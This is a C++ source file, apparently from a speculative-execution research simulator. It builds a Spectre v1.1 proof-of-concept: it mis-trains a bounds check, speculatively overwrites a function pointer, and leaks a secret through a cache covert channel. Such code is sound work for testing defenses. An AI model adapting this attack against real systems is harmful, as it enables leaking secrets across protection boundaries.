/**
 * @file
 * Spectre v1.1 — speculative buffer overflow (Kiriansky & Waldspurger,
 * paper Table 1). Under a mis-trained bounds check, a *wrong-path
 * store* overwrites a function pointer; a following load forwards the
 * attacker's value from the store queue and an indirect call steers
 * wrong-path execution into a transmit gadget. The architectural
 * pointer is never modified — the overwrite lives only in the SQ.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Function-pointer slot the wrong-path store overwrites. */
constexpr Addr kFpSlot = kVictimBase + 0xA00;
} // namespace

Program
SpectreV11::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v1.1");
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- transmit gadget G: read the secret and leak it ------------------
    const Addr gadget_pc = b.here();
    b.movi(13, static_cast<std::int64_t>(kSecretAddr));
    b.load(14, 13, 0, 1);            // (1) access
    emitCacheTransmit(b, 14);        // (2) transmit
    b.ret(28);

    // --- benign target the pointer architecturally holds ----------------
    const Addr benign_pc = b.here();
    b.ret(28);
    b.word(kFpSlot, benign_pc);

    // --- victim(x in r10): bounds-checked *store* then dispatch ---------
    auto victim = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // bound (flushed -> slow)
    b.bgeu(10, 12, vend);            // trained in-bounds
    // Wrong path: buf[x] = attacker value. With x = kFpSlot - buf the
    // store lands on the function pointer (the "buffer overflow").
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.movi(9, static_cast<std::int64_t>(gadget_pc));
    b.store(13, 0, 9, 8);            // speculative overwrite
    b.movi(15, static_cast<std::int64_t>(kFpSlot));
    b.load(16, 15, 0, 8);            // forwards gadget_pc from the SQ
    b.callr(28, 16);                 // steered into G
    b.bind(vend);
    b.ret(30);

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);

    // Train in-bounds 32 times, then attack with x pointing the store
    // at the function-pointer slot.
    b.movi(18, 0);
    auto train = b.label();
    b.movi(5, 32);
    b.cmpeq(3, 18, 5);
    b.muli(4, 3,
           static_cast<std::int64_t>(kFpSlot - kVictimArray) - 5);
    b.addi(10, 4, 5);                // x = 5 or (kFpSlot - buf)
    b.movi(1, static_cast<std::int64_t>(kBoundAddr));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    b.addi(18, 18, 1);
    b.movi(5, 33);
    b.blt(18, 5, train);
    b.fence();

    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

} // namespace nda
